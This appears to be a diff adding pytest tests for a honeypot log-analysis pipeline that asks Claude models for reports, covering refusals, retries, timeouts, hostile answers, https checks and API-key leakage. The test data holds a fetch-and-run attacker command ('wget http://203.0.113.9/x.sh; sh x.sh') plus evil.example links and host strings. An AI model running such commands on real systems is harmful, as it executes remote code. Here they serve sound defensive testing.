@@ -1,0 +1,197 @@
+"""Whatever Claude's side does, the report is complete, in bounded time, and the key is nowhere to be found."""
+
+import logging
+import time
+from dataclasses import replace
+
+import pytest
+from sqlalchemy import Engine, select, text
+
+from rustbucket_pipeline.analysis.claude import Pace, address_problem
+from rustbucket_pipeline.analysis.digest import build_digest
+from rustbucket_pipeline.analysis.report import AnalysisOutcome, build_analysis, stored_report
+from rustbucket_pipeline.settings import Settings
+from rustbucket_pipeline.storage.tables import claude_calls
+from rustbucket_pipeline_tests.analysis.claude_server import KEY, ClaudeServer, Scene, faithful
+from rustbucket_pipeline_tests.analysis.conftest import changed
+from rustbucket_pipeline_tests.analysis.seeding import NOW, WINDOW, command, tell
+
+HAIKU, SONNET = "claude-haiku-5-5", "claude-sonnet-5-5"
+PACE = Pace(deadline_seconds=20, most_bytes=100_000, first_wait_seconds=0.01)
+
+
+@pytest.fixture
+def digested(database: Engine) -> Engine:
+    """A database with one digested window that has a severe finding."""
+    tell(database, [command("cd /tmp; wget http://203.0.113.9/x.sh; sh x.sh")])
+    build_digest(database, WINDOW, NOW, None)
+    return database
+
+
+def asked(engine: Engine, settings: Settings, claude: ClaudeServer, *scenes: Scene, pace: Pace = PACE) -> AnalysisOutcome:
+    claude.scenes = list(scenes)
+    outcome = build_analysis(engine, settings, WINDOW, NOW, None, pace)
+    assert (outcome.severity, outcome.findings) == ("high", 1), "what rules say never depends on Claude"
+    return outcome
+
+
+def outcomes(engine: Engine) -> list[tuple[str, str]]:
+    with engine.connect() as connection:
+        rows = connection.execute(select(claude_calls).order_by(claude_calls.c.id)).all()
+    return [(row.model, row.outcome) for row in rows]
+
+
+def test_a_refusal_asks_the_next_model_and_never_the_same_again(
+    digested: Engine, with_claude: Settings, claude: ClaudeServer
+) -> None:
+    assert asked(digested, with_claude, claude, "refusal", faithful).status == "claude"
+    assert claude.models == [HAIKU, SONNET]
+
+
+def test_refused_by_all_is_two_calls_and_not_asked_again(
+    digested: Engine, with_claude: Settings, claude: ClaudeServer
+) -> None:
+    assert asked(digested, with_claude, claude, "refusal").claude == "refused by every model"
+    assert asked(digested, with_claude, claude, faithful).claude == "refused by every model"
+    assert claude.models == [HAIKU, SONNET]
+
+
+@pytest.mark.parametrize("scene", ["overloaded", "error", "rate_limit", "drop"])
+def test_what_passes_is_tried_again(
+    digested: Engine, with_claude: Settings, claude: ClaudeServer, scene: str
+) -> None:
+    assert asked(digested, with_claude, claude, scene, scene, faithful).status == "claude"
+    assert claude.models == [HAIKU] * 3
+
+
+def test_an_outage_ends_after_three_tries_and_a_later_run_asks_again(
+    digested: Engine, with_claude: Settings, claude: ClaudeServer
+) -> None:
+    outcome = asked(digested, with_claude, claude, "overloaded")
+    assert (outcome.status, outcome.claude) == ("deterministic", "unavailable: HTTP 529 overloaded_error")
+    assert len(claude.requests) == 3
+    assert asked(digested, with_claude, claude, faithful).status == "claude"
+
+
+@pytest.mark.parametrize(
+    "scene",
+    ["bad_request", "unauthorized", "forbidden", "too_large", "spend_limit", "rate_limit_for_a_day", "error_no_retry"],
+)
+def test_what_doesnt_pass_is_asked_once(
+    digested: Engine, with_claude: Settings, claude: ClaudeServer, scene: str
+) -> None:
+    assert asked(digested, with_claude, claude, scene).status == "deterministic"
+    assert len(claude.requests) == 1
+
+
+@pytest.mark.parametrize("scene", ["html", "not_json", "wrong_shape", "redirect", "huge", "gzip_bomb"])
+def test_an_answer_that_is_none_is_not_asked_for_again(
+    digested: Engine, with_claude: Settings, claude: ClaudeServer, scene: str
+) -> None:
+    outcome = asked(digested, with_claude, claude, scene)
+    assert outcome.status == "deterministic"
+    assert len(claude.requests) == 1
+
+
+def test_a_huge_error_is_read_only_so_far(digested: Engine, with_claude: Settings, claude: ClaudeServer) -> None:
+    assert asked(digested, with_claude, claude, "huge_error").status == "deterministic"
+
+
+@pytest.mark.parametrize("scene", ["drip", "stall"])
+def test_a_slow_answer_ends_at_the_deadline(
+    digested: Engine, with_claude: Settings, claude: ClaudeServer, scene: str
+) -> None:
+    started = time.monotonic()
+    outcome = asked(digested, with_claude, claude, scene, pace=replace(PACE, deadline_seconds=0.6))
+    assert time.monotonic() - started < 5
+    assert outcome.claude == "no answer within the deadline"
+    assert outcomes(digested) == [(HAIKU, "lost")]
+
+
+def test_a_lost_answer_is_counted_at_its_worst_case(
+    digested: Engine, with_claude: Settings, claude: ClaudeServer
+) -> None:
+    asked(digested, with_claude, claude, "drop")
+    with digested.connect() as connection:
+        costs = connection.execute(select(claude_calls.c.cost_usd)).scalars().all()
+    assert len(costs) == 3
+    assert min(costs) > 0.003
+
+
+def test_a_cut_answer_gets_twice_the_room_once(digested: Engine, with_claude: Settings, claude: ClaudeServer) -> None:
+    outcome = asked(digested, with_claude, claude, "truncated")
+    assert (outcome.status, outcome.claude) == ("deterministic", "cut: max_tokens")
+    assert [request["max_tokens"] for request in claude.requests] == [6000, 12_000]
+
+
+def test_a_malformed_answer_gets_one_second_chance(
+    digested: Engine, with_claude: Settings, claude: ClaudeServer
+) -> None:
+    assert asked(digested, with_claude, claude, "malformed", faithful).status == "claude"
+    notes = claude.requests[1]["messages"][-1]["content"][1]["text"]
+    assert "the answer isn't of the shape asked for" in notes
+    assert "Sure" not in notes
+
+
+def test_malformed_twice_leaves_the_rules(digested: Engine, with_claude: Settings, claude: ClaudeServer) -> None:
+    outcome = asked(digested, with_claude, claude, "malformed")
+    assert (outcome.status, outcome.claude) == ("deterministic", "answered, but nothing of it could be kept")
+    assert len(claude.requests) == 2
+
+
+def test_a_hostile_answer_is_cleaned_and_marked(digested: Engine, with_claude: Settings, claude: ClaudeServer) -> None:
+    lie = {
+        "summary": "The window was quiet.",
+        "severity": "info",
+        "findings": [{"title": "t", "why": "C2 is 8.8.8.8", "severity": "info", "evidence": ["F9"], "indicators": ["I99"]}],
+        "recommendations": ["See [here](http://evil.example)"],
+    }
+    assert asked(digested, with_claude, claude, lambda _: lie).status == "model-marked"
+    assert len(claude.requests) == 2
+    with digested.connect() as connection:
+        report = stored_report(connection, WINDOW)
+    assert report is not None
+    assert report.prose is not None
+    assert [(part.origin, part.evidence, part.severity) for part in report.prose.findings] == [("rule", ("F1",), "high")]
+    assert report.prose.severity == "high"
+    assert report.prose.recommendations == ()
+    assert "a severe finding left out" in report.claude.issues
+
+
+def test_an_unknown_model_is_sent_no_effort(digested: Engine, settings: Settings, claude: ClaudeServer) -> None:
+    unheard = changed(
+        settings, ANTHROPIC_API_KEY=KEY, CLAUDE_BASE_URL=claude.url, CLAUDE_MODELS="claude-unheard-of-1"
+    )
+    assert asked(digested, unheard, claude, faithful).status == "claude"
+    assert set(claude.requests[0]["output_config"]) == {"format"}
+
+
+def test_proxies_of_the_environment_are_not_used(
+    digested: Engine, with_claude: Settings, claude: ClaudeServer, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("HTTP_PROXY", "http://127.0.0.1:1")
+    monkeypatch.setenv("ALL_PROXY", "http://127.0.0.1:1")
+    assert asked(digested, with_claude, claude, faithful).status == "claude"
+
+
+def test_plain_http_is_for_loopback_only(digested: Engine, settings: Settings, claude: ClaudeServer) -> None:
+    away = changed(settings, ANTHROPIC_API_KEY=KEY, CLAUDE_BASE_URL="http://api.example")
+    assert asked(digested, away, claude, faithful).claude.startswith("not asked: CLAUDE_BASE_URL must be https://")
+    assert address_problem("https://api.anthropic.com") is None
+    assert address_problem("http://[::1]:80") is None
+    assert address_problem("ftp://127.0.0.1") is not None
+    assert address_problem("http://127.0.0.1.evil.example") is not None
+
+
+@pytest.mark.parametrize("scene", ["unauthorized", "overloaded", "drop", "redirect", "malformed", "huge"])
+def test_the_key_is_in_no_log_outcome_or_table(
+    digested: Engine, with_claude: Settings, claude: ClaudeServer, scene: str, caplog: pytest.LogCaptureFixture
+) -> None:
+    caplog.set_level(logging.DEBUG)
+    outcome = asked(digested, with_claude, claude, scene)
+    assert claude.headers_seen
+    assert KEY not in caplog.text
+    assert KEY not in repr(outcome) + repr(with_claude)
+    with digested.connect() as connection:
+        for table in ("log_analyses", "claude_calls", "findings", "window_builds"):
+            assert KEY not in str(connection.execute(text(f"SELECT * FROM {table}")).all())
